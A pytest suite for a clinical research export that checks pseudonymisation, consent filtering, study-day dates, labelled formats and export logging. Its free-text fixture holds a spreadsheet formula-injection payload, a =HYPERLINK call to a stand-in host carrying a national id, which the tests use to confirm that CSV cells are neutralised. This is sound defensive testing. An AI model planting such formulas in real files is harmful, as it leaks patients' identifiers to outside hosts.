"""The research export: pseudonymised, consented patients only, days instead of dates,
every format readable with its labels, every export logged with the file's hash."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from dataclasses import replace
from datetime import timedelta

import pyarrow.parquet as pq
import pyreadstat
import pytest
from django.contrib.auth.models import Permission
from fhir.resources.R4B.bundle import Bundle

from hab.core import clock
from hab.core.access import Actor
from hab.patients.models import Patient
from hab.research.models import Answer, ExportLog, Item, Response
from tests.dosing.helpers import TODAY
from tests.research.helpers import download, tables_of

pytestmark = pytest.mark.django_db


def test_only_consenting_patients_are_exported_and_the_rest_counted(trial, api_as):
    data, response = download(api_as("researcher.oslo"))
    tables = tables_of(data)
    research_ids = {Patient.objects.get(pk=pk).research_id: pk for pk in trial["patients"]}

    exported = {row["research_id"] for row in tables["patients"]}
    assert exported == {
        Patient.objects.get(pk=trial["patients"][0]).research_id,
        Patient.objects.get(pk=trial["patients"][1]).research_id,
    }
    assert set(research_ids) >= exported
    assert response["X-HAB-Left-Out"] == "2"
    readme = zipfile.ZipFile(io.BytesIO(data)).read("README.md").decode()
    assert "Left out without (or after withdrawing) research consent: 2" in readme


def test_no_direct_identifier_leaves_hab(trial, api_as):
    data, _response = download(api_as("researcher.oslo"))
    archive = zipfile.ZipFile(io.BytesIO(data))
    text = "\n".join(archive.read(name).decode() for name in archive.namelist())

    for patient in Patient.objects.filter(pk__in=trial["patients"]):
        assert patient.national_id not in text
        assert patient.family_name not in text
        assert str(patient.birth_date) not in text
    assert str(trial["episode"].admitted_on) not in text  # days, not dates


def test_dates_become_study_days(trial, api_as):
    tables = tables_of(download(api_as("researcher.oslo"))[0])
    rid = Patient.objects.get(pk=trial["patients"][0]).research_id

    episode = next(r for r in tables["episodes"] if r["research_id"] == rid)
    doses = [r for r in tables["doses_daily"] if r["research_id"] == rid]
    admitted = trial["episode"].admitted_on

    assert episode["start_day"] == "0"
    assert "start_date" not in episode
    assert {int(r["day"]) for r in doses} == {
        (TODAY - timedelta(days=back) - admitted).days for back in (1, 2, 3)
    }
    assert all(r["dam_doses"] == "2" and float(r["dam_mg"]) == 400.0 for r in doses)


def test_the_research_dates_permission_adds_calendar_dates(trial, api_as, staff):
    staff["researcher.oslo"].user_permissions.add(
        Permission.objects.get(codename="export_dates", content_type__app_label="research")
    )
    tables = tables_of(download(api_as("researcher.oslo"))[0])

    episode = tables["episodes"][0]
    assert episode["start_date"] == str(
        Patient.objects.get(research_id=episode["research_id"]).episodes.first().admitted_on
    )
    assert ExportLog.objects.get().with_dates is True


def test_only_the_newest_response_counts_long_and_wide(trial, api_as):
    tables = tables_of(download(api_as("researcher.oslo"))[0])

    long = {r["item"]: r for r in tables["responses_long"]}
    assert long["test_heroin_days"]["value"] == "20"
    assert long["test_housing"]["value"] == "4"
    assert len(tables["responses_wide"]) == 1
    wide = tables["responses_wide"][0]
    assert (
        wide["month"],
        wide["test_heroin_days"],
        wide["test_housing"],
        wide["interview_day"],
    ) == (
        "0",
        "20",
        "4",
        "2",
    )
    answered = [r for r in tables["follow_ups"] if r["state"] == "1"]
    assert [(r["month"], r["interview_day"]) for r in answered] == [("0", "2")]


def test_the_codebook_labels_every_variable_in_both_languages(trial, api_as):
    tables = tables_of(download(api_as("researcher.oslo"))[0])
    codebook = tables["codebook"]

    described = {(r["table"], r["variable"]) for r in codebook}
    for name, rows in tables.items():
        if name == "codebook" or not rows:
            continue
        assert {(name, column) for column in rows[0]} <= described
    housing = next(r for r in codebook if r["variable"] == "test_housing")
    assert housing["codes_en"] == "1=Own flat; 4=Homeless"
    assert housing["codes_nb"] == "1=Egen bolig; 4=Bostedsløs"
    kind = next(r for r in codebook if r["table"] == "incidents" and r["variable"] == "kind")
    assert "=Overdose" in kind["codes_en"]


def test_parquet_keeps_types_and_labels(trial, api_as):
    data, _response = download(api_as("researcher.oslo"), "parquet")
    archive = zipfile.ZipFile(io.BytesIO(data))

    doses = pq.read_table(io.BytesIO(archive.read("doses_daily.parquet")))
    incidents = pq.read_table(io.BytesIO(archive.read("incidents.parquet")))

    assert doses.num_rows == 6
    assert str(doses.schema.field("dam_mg").type) == "double"
    codes = json.loads(incidents.schema.field("kind").metadata[b"codes"])
    assert codes["1"][0] == "Overdose"
    assert incidents.column("naloxone_mg").to_pylist() == [0.4]


@pytest.mark.parametrize("fmt", ["dta", "sav"])
def test_stata_and_spss_files_carry_value_labels(trial, api_as, tmp_path, fmt):
    data, _response = download(api_as("researcher.oslo"), fmt)
    archive = zipfile.ZipFile(io.BytesIO(data))
    path = tmp_path / f"incidents.{fmt}"
    path.write_bytes(archive.read(f"incidents.{fmt}"))

    reader = pyreadstat.read_dta if fmt == "dta" else pyreadstat.read_sav
    frame, meta = reader(str(path))

    assert list(frame["kind"]) == [1.0]
    labels = meta.variable_value_labels["kind"]
    assert labels[1] == "Overdose"
    assert meta.column_names_to_labels["naloxone_mg"] == "Naloxone given (mg)"


def test_fhir_is_a_valid_bundle_without_identifiers(trial, api_as):
    data, response = download(api_as("researcher.oslo"), "fhir")

    bundle = Bundle.model_validate_json(data)
    kinds = [entry.resource.get_resource_type() for entry in bundle.entry]
    assert kinds.count("Patient") == 2
    assert kinds.count("QuestionnaireResponse") == 1
    text = data.decode()
    for patient in Patient.objects.filter(pk__in=trial["patients"]):
        assert patient.national_id not in text and patient.family_name not in text
    assert response["Content-Type"] == "application/fhir+json"


def test_every_export_is_logged_with_the_file_hash(trial, api_as):
    data, response = download(api_as("researcher.oslo"), clinic="oslo")

    log = ExportLog.objects.get()
    assert log.sha256 == hashlib.sha256(data).hexdigest() == response["X-HAB-SHA256"]
    assert (log.user.username, log.format, log.filters) == (
        "researcher.oslo",
        "csv",
        {"clinic": "oslo"},
    )
    assert log.rows["patients"] == 2
    assert log.left_out == 2


@pytest.mark.parametrize(
    ("user", "query", "status"),
    [
        ("nurse.oslo", {"format": "csv"}, 403),
        ("nurse.oslo", {"format": "xlsx"}, 403),  # who asks, before what is asked
        ("clinic_lead.oslo", {"format": "csv"}, 403),
        ("programme.oslo", {"format": "csv"}, 403),
        ("researcher.oslo", {"format": "xlsx"}, 422),
        ("researcher.oslo", {"format": "csv", "clinic": "bergen"}, 404),
    ],
)
def test_who_may_export(trial, api_as, user, query, status):
    response = api_as(user).get("/research/export", query)

    assert response.status_code == status
    assert not ExportLog.objects.exists()


def test_the_export_page_downloads_and_lists_the_log(trial, web_as):
    client = web_as("researcher.oslo")

    page = client.get("/research/export/", HTTP_ACCEPT_LANGUAGE="en")
    file = client.get("/research/export/?format=csv")
    after = client.get("/research/export/", HTTP_ACCEPT_LANGUAGE="en")

    assert page.status_code == 200
    assert file["Content-Type"] == "application/zip"
    assert ExportLog.objects.get().sha256[:16] in after.content.decode()
    assert web_as("nurse.oslo").get("/research/export/").status_code == 403


@pytest.mark.parametrize("query", ["?format=csv", "?format=xlsx", "?format=fhir&clinic=oslo"])
def test_the_export_page_downloads_nothing_for_others(trial, web_as, query):
    response = web_as("nurse.oslo").get("/research/export/" + query)

    assert response.status_code == 403
    assert not ExportLog.objects.exists()


def test_the_patients_page_links_to_the_follow_ups(web_as, make_patient):
    patient = make_patient()

    coordinator = web_as("coordinator.oslo").get(f"/patients/{patient.pk}/").content.decode()
    admin = web_as("researcher.oslo").get(f"/patients/{patient.pk}/")

    assert f'href="/research/patients/{patient.pk}/"' in coordinator
    assert admin.status_code in (403, 404)


@pytest.mark.skipif(
    "postgresql" not in __import__("django.db").db.connection.vendor,
    reason="PostgreSQL writes the daily doses itself (COPY); elsewhere Python does",
)
@pytest.mark.parametrize("with_dates", [False, True])
def test_the_daily_doses_postgresql_writes_are_the_rows_python_writes(
    trial, staff, with_dates, tmp_path
):
    """At national scale the daily doses (tens of millions of records) are summed and
    formatted by PostgreSQL; the file must be the one Python writes from the same rows:
    every status, an adjunct opioid, sums with decimals and a corrected record."""
    from hab.dosing.models import Administration
    from hab.dosing.services import administration_correct
    from hab.intake.models import Episode
    from hab.research import export
    from hab.research.export.writers.table_csv import copied as copy_of
    from hab.research.export.writers.table_parquet import write_parquet

    patient = trial["patients"][1]
    episode = Episode.objects.get(patient_id=patient, ended_on__isnull=True)
    day = TODAY - timedelta(days=5)
    rows = [
        ("morning", "dam", "partial", "12.3"),
        ("afternoon", "dam", "given", "0.2"),
        ("evening", "dam", "withheld", "0"),
        ("morning", "methadone", "given", "60.1"),
        ("afternoon", "methadone", "refused", "0"),
        ("evening", "methadone", "missed", "0"),
    ]
    made = Administration.objects.bulk_create(
        Administration(
            patient_id=patient,
            episode=episode,
            clinic=episode.clinic,
            day=day - timedelta(days=number // 3),
            slot=slot,
            medication="dam_injectable" if group == "dam" else "methadone_oral",
            group=group,
            route="iv",
            status=status,
            dose_mg=mg,
            given_at=clock.now(),
            nurse=episode.created_by,
        )
        for number, (slot, group, status, mg) in enumerate(rows)
    )
    administration_correct(
        actor=Actor.system(staff["nurse.oslo"]),
        administration_id=made[0].pk,
        reason="Wrong amount",
        dose_mg="7.7",
        status="partial",
    )
    scope = export.scope_for(staff["researcher.oslo"], "oslo", with_dates=with_dates)
    doses = next(t for t in export.tables(scope) if t.name == "doses_daily")
    assert doses.copy is not None

    expected = io.StringIO()
    csv.writer(expected).writerows(doses.rows())
    copied = b"".join(copy_of(doses)).decode()
    assert copied == expected.getvalue()
    assert doses.count == len(copied.splitlines()) == 3 + 3 + 2  # two patients' days
    assert ",2,7.9,0.0,1,0,0" in copied  # the correction counts, not what it corrects
    assert ",0,0.0,60.1,0,1,1" in copied

    written = {}
    for fast in (True, False):
        path = tmp_path / f"{fast}.zip"
        with zipfile.ZipFile(path, "w") as archive:
            write_parquet(archive, doses if fast else replace(doses, copy=None))
        written[fast] = pq.read_table(
            io.BytesIO(zipfile.ZipFile(path).read(doses.name + ".parquet"))
        )
    assert written[True].equals(written[False], check_metadata=True)
    assert written[True].num_rows == 8


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_an_export_with_no_patient_in_it_has_the_tables_and_no_rows(api_as, fmt):
    """No patient with research consent (a new programme): every table is written, empty,
    on both databases (PostgreSQL writes the daily doses by COPY, from no ids at all)."""
    data, _response = download(api_as("researcher.oslo"), fmt)
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    assert f"doses_daily.{fmt}" in names
    if fmt == "csv":
        assert tables_of(data)["doses_daily"] == []


# --- free text and formulas (issue 18) -------------------------------------------------------

# A comment as one was found in an export: a name, a national id and a formula.
NASTY = '=HYPERLINK("https://evil.example/?id=01018012345","Ola Nordmann")'


@pytest.fixture
def commented(trial, instrument, staff):
    """The trial, with a free-text comment and a negative whole number on the current
    baseline response."""
    made, _days, _housing = instrument
    comment = Item.objects.create(
        instrument=made,
        code="test_comment",
        order=3,
        text_nb="Kommentar",
        text_en="Comment",
        type="text",
        required=False,
    )
    change = Item.objects.create(
        instrument=made,
        code="test_change",
        order=4,
        text_nb="Endring",
        text_en="Change",
        type="integer",
        min_value=-10,
        max_value=10,
    )
    current = Response.objects.get(corrected_by__isnull=True, instrument=made)
    Answer.objects.create(response=current, item=comment, value_text=NASTY)
    Answer.objects.create(response=current, item=change, value_int=-3)
    return trial


def every_file(data: bytes) -> str:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return "\n".join(archive.read(name).decode() for name in archive.namelist())


@pytest.mark.parametrize("fmt", ["csv", "fhir"])
def test_free_text_is_left_out_unless_asked_for(commented, api_as, fmt):
    data, response = download(api_as("researcher.oslo"), fmt)

    text = data.decode() if fmt == "fhir" else every_file(data)
    for secret in ("HYPERLINK", "Ola Nordmann", "01018012345", "test_comment"):
        assert secret not in text
    assert response["X-HAB-Free-Text"] == "left-out"
    assert "X-HAB-Warning" not in response
    assert ExportLog.objects.get().free_text is False


def test_free_text_asked_for_is_in_the_csv_as_text_never_as_a_formula(commented, api_as):
    data, response = download(api_as("researcher.oslo"), free_text="true")

    tables = tables_of(data)
    (wide,) = tables["responses_wide"]
    assert wide["test_comment"] == "'" + NASTY
    (long,) = [row for row in tables["responses_long"] if row["item"] == "test_comment"]
    assert long["text"] == "'" + NASTY
    # and it is logged and warned about, in the answer and in the README
    assert ExportLog.objects.get().free_text is True
    assert response["X-HAB-Free-Text"] == "included"
    assert "national id" in response["X-HAB-Warning"]
    readme = zipfile.ZipFile(io.BytesIO(data)).read("README.md").decode()
    assert "WARNING: Free-text answers are included" in readme
    assert "ADVARSEL" in readme


def test_a_negative_number_stays_a_number_in_the_csv(commented, api_as):
    data, _response = download(api_as("researcher.oslo"))

    tables = tables_of(data)
    (wide,) = tables["responses_wide"]
    assert wide["test_change"] == "-3"
    (long,) = [row for row in tables["responses_long"] if row["item"] == "test_change"]
    assert long["value"] == "-3"


def test_no_cell_of_any_csv_starts_a_formula(commented, api_as):
    data, _response = download(api_as("researcher.oslo"), free_text="true")

    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if not name.endswith(".csv"):
            continue
        for row in csv.reader(io.StringIO(archive.read(name).decode(), newline="")):
            for cell in row:
                # a number may be negative; text may not start a formula
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()


def test_the_fhir_bundle_has_the_comment_only_when_asked_for(commented, api_as):
    data, _response = download(api_as("researcher.oslo"), "fhir", free_text="true")

    bundle = Bundle.model_validate_json(data)
    answers = [
        item.answer[0].valueString
        for entry in bundle.entry
        if entry.resource.get_resource_type() == "QuestionnaireResponse"
        for item in entry.resource.item
        if item.linkId == "test_comment"
    ]
    assert answers == [NASTY]
    assert ExportLog.objects.get().free_text is True


def test_the_export_page_asks_for_free_text_with_a_warning_and_logs_it(commented, web_as):
    client = web_as("researcher.oslo")

    page = client.get("/research/export/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    plain = client.get("/research/export/?format=csv")
    asked = client.get("/research/export/?format=csv&free_text=1")
    after = client.get("/research/export/", HTTP_ACCEPT_LANGUAGE="en").content.decode()

    assert 'name="free_text"' in page
    assert "may name the patient or others, or hold a national id" in page
    assert "HYPERLINK" not in every_file(b"".join(plain.streaming_content))
    assert "HYPERLINK" in every_file(b"".join(asked.streaming_content))
    assert [log.free_text for log in ExportLog.objects.order_by("pk")] == [False, True]
    assert "Included" in after and "Left out" in after
